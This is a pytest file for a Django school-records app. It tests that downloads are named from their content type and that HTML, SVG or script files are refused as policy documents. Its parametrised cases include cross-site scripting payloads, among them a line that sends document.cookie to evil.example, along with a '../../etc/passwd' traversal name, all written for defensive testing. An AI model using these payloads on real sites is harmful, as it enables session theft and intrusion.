"""Downloads are named from their content's type, never from the uploader's name, and a
policy document may not be a web page or a script (issue 12, finding 8)."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from schoolkeep.accounts.models import User
from schoolkeep.agreements.policies.models import PolicyVersion
from schoolkeep.agreements.policies.services import policy_create, version_add
from schoolkeep.lib import downloads
from schoolkeep.lib.downloads import download_name, download_response
from schoolkeep.lib.errors import DomainError
from schoolkeep.people import services as people
from schoolkeep.people.models import Check
from tests.personas import Personas

Login = Callable[[User], Client]
PDF_BYTES = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n"
HTML_BYTES = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


def _body(response: object) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)  # type: ignore[attr-defined]
    return bytes(response.content)  # type: ignore[attr-defined]


def assert_attachment(response: Any, *, content_type: str, filename: str) -> None:
    """A download the helper built: its type, saved (not shown) under ``filename``, and
    never sniffed."""
    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'
    assert response["X-Content-Type-Options"] == "nosniff"


# ---------------------------------------------------------------------------- the helper


@pytest.mark.parametrize(("name", "content_type", "expected"), [
    ("x.html", downloads.PDF, "x.pdf"),
    ("C:\\Users\\pat\\scan.svg", downloads.PNG, "scan.png"),
    ("../../etc/passwd", downloads.JPEG, "passwd.jpg"),
    ("policy.final.HTML", downloads.TEXT, "policy.final.txt"),
    ("report.pdf", "application/pdf; charset=binary", "report.pdf"),
    ('a"b\r\n.pdf', downloads.PDF, "a b.pdf"),
    (".html", downloads.PDF, "html.pdf"),
    ("", downloads.DOCX, "download.docx"),
    ("page.html", "text/html", "page.bin"),  # a type we do not serve: nothing to run
])
def test_the_name_keeps_the_stem_and_takes_the_extension_of_the_type(
        name: str, content_type: str, expected: str) -> None:
    assert download_name(name, content_type) == expected


def test_an_unknown_type_goes_out_as_octet_stream_and_never_inline() -> None:
    response = download_response(HTML_BYTES, name="x.html", content_type="text/html",
                                 inline=True)
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"] == 'attachment; filename="x.bin"'
    assert response["X-Content-Type-Options"] == "nosniff"


def test_inline_is_kept_only_for_types_a_browser_shows_safely() -> None:
    pdf = download_response(PDF_BYTES, name="poster", content_type=downloads.PDF, inline=True)
    assert pdf["Content-Disposition"] == 'inline; filename="poster.pdf"'
    text = download_response(b"x", name="notes", content_type=downloads.TEXT, inline=True)
    assert text["Content-Disposition"] == 'attachment; filename="notes.txt"'
    assert text["Content-Type"] == "text/plain; charset=utf-8"


# ---------------------------------------------------------------------------- DBS copies


@pytest.mark.django_db
def test_a_dbs_copy_that_is_a_pdf_named_html_downloads_as_pdf(personas: Personas,
                                                              login: Login) -> None:
    person = people.person_create(school=personas.school, actor=personas.hr_admin,
                                  full_name="Ada Lovelace", kind="contractor")
    check = people.check_save(person=person, actor=personas.hr_admin,
                              check_type="enhanced_dbs", status="pending")
    copy = people.copy_upload(check=check, actor=personas.hr_admin,
                              uploaded_file=SimpleUploadedFile("x.html", PDF_BYTES,
                                                               content_type="text/html"))
    assert Check.objects.count() == 1
    response = login(personas.hr_admin).get(reverse("people:copy-download",
                                                    args=[copy.public_id]))
    assert_attachment(response, content_type="application/pdf", filename="x.pdf")
    assert _body(response) == PDF_BYTES


# ---------------------------------------------------------------------------- policies


@pytest.mark.django_db
def test_a_policy_pdf_named_html_downloads_as_pdf(personas: Personas, login: Login) -> None:
    policy = policy_create(school=personas.school, actor=None, title="Charging Policy")
    version = version_add(policy=policy, actor=None,
                          uploaded_file=SimpleUploadedFile("charging.html", PDF_BYTES))
    client = login(personas.dpo)
    response = client.get(reverse("policies:version-download", args=[version.public_id]))
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'attachment; filename="charging.pdf"'
    page = client.get(reverse("policies:version-detail", args=[version.public_id]))
    assert "Download charging.pdf" in page.content.decode()


@pytest.mark.django_db
def test_a_plain_text_policy_downloads_as_text_whatever_its_name(personas: Personas,
                                                                 login: Login) -> None:
    policy = policy_create(school=personas.school, actor=None, title="Charging Policy")
    version = version_add(policy=policy, actor=None, uploaded_file=SimpleUploadedFile(
        "charging.md", b"Charging Policy\n\nWe charge for nothing.\n"))
    response = login(personas.dpo).get(reverse("policies:version-download",
                                               args=[version.public_id]))
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="charging.txt"'


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "data"), [
    ("policy.html", HTML_BYTES),
    ("policy.txt", HTML_BYTES),  # HTML by its content, whatever the name says
    ("policy.txt", b"\xef\xbb\xbf\n  <html><p>Our policy</p></html>"),
    ("policy.txt", b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>"),
    ("policy.txt", b"Our policy.\n<script src=//evil.example/x.js></script>\n"),
    ("policy.svg", b"Looks like text"),
    ("policy.js", b"document.location = 'https://evil.example/' + document.cookie;"),
    ("policy.xhtml", b"Our policy"),
])
def test_a_web_page_or_script_is_refused_as_a_policy(personas: Personas, login: Login,
                                                     name: str, data: bytes) -> None:
    policy = policy_create(school=personas.school, actor=None, title="Charging Policy")
    response = login(personas.dpo).post(
        reverse("policies:version-create", args=[policy.public_id]),
        {"file": SimpleUploadedFile(name, data)})
    assert response.status_code == 200
    assert "is a web page or a script" in response.content.decode()
    assert not PolicyVersion.objects.exists()


@pytest.mark.django_db
def test_the_service_refuses_active_content_naming_the_file_field(personas: Personas) -> None:
    policy = policy_create(school=personas.school, actor=None, title="Charging Policy")
    with pytest.raises(DomainError) as refused:
        version_add(policy=policy, actor=None,
                    uploaded_file=SimpleUploadedFile("p.htm", b"<p>Policy</p>"))
    assert refused.value.field == "file"


@pytest.mark.django_db
def test_an_imported_policy_document_may_not_be_a_web_page(personas: Personas,
                                                           login: Login) -> None:
    response = login(personas.dpo).post(reverse("policies:policy-import"), {
        "file": SimpleUploadedFile("policy.html", HTML_BYTES)})
    assert response.status_code == 200
    assert "is a web page or a script" in response.content.decode()


# ---------------------------------------------------------------------------- one helper


def test_no_module_but_the_helper_builds_a_download() -> None:
    """A view that sets Content-Disposition itself (or hands out a FileResponse) names the
    file as it likes: every download goes through lib/downloads.py."""
    import re
    from pathlib import Path

    import schoolkeep

    root = Path(schoolkeep.__file__).parent
    pattern = re.compile(r"Content-Disposition|FileResponse|as_attachment")
    found = [f"{path.relative_to(root)}:{number}"
             for path in sorted(root.rglob("*.py"))
             if "tests" not in path.parts and path != root / "lib" / "downloads.py"
             for number, line in enumerate(path.read_text().splitlines(), 1)
             if pattern.search(line)]
    assert found == []


@pytest.mark.django_db
def test_a_jobs_file_is_named_from_its_type(personas: Personas, login: Login, settings,
                                            tmp_path) -> None:
    from schoolkeep.jobs.services import job_create, job_finish

    settings.DATA_DIR = tmp_path
    job = job_create(school=personas.school, actor=personas.siro, kind="test",
                     title="Export", permission="school.view")
    job_finish(job, content=PDF_BYTES, filename="letters.html", content_type=downloads.PDF)
    response = login(personas.siro).get(reverse("jobs:job-download", args=[job.public_id]))
    assert_attachment(response, content_type="application/pdf", filename="letters.pdf")
    assert _body(response) == PDF_BYTES


@pytest.mark.django_db
def test_a_jobs_file_of_an_unknown_type_is_never_run(personas: Personas, login: Login,
                                                     settings, tmp_path) -> None:
    from schoolkeep.jobs.services import job_create, job_finish

    settings.DATA_DIR = tmp_path
    job = job_create(school=personas.school, actor=personas.siro, kind="test",
                     title="Export", permission="school.view")
    job_finish(job, content=HTML_BYTES, filename="x.html", content_type="text/html")
    response = login(personas.siro).get(reverse("jobs:job-download", args=[job.public_id]))
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"] == 'attachment; filename="x.bin"'


@pytest.mark.django_db
@pytest.mark.parametrize(("url_name", "fmt", "content_type", "filename"), [
    ("people:import-template", "csv", "text/csv; charset=utf-8", "people-import.csv"),
    ("people:import-template", "xlsx", downloads.XLSX, "people-import.xlsx"),
    ("agreements:parent-import-template", "csv", "text/csv; charset=utf-8", "parents-import.csv"),
])
def test_an_import_template_goes_through_the_helper(personas: Personas, login: Login,
                                                    url_name: str, fmt: str,
                                                    content_type: str, filename: str) -> None:
    response = login(personas.siro).get(reverse(url_name, args=[fmt]))
    assert_attachment(response, content_type=content_type, filename=filename)


@pytest.mark.django_db
def test_the_draft_ico_report_goes_through_the_helper(personas: Personas,
                                                      login: Login) -> None:
    from schoolkeep.incidents.tests.test_exports_ico import full_breach

    breach = full_breach(personas)
    response = login(personas.dpo).get(reverse("incidents:ico-report",
                                               args=[breach.public_id, "docx"]))
    assert_attachment(response, content_type=downloads.DOCX,
                      filename=f"draft-ico-report-{breach.reference}.docx")
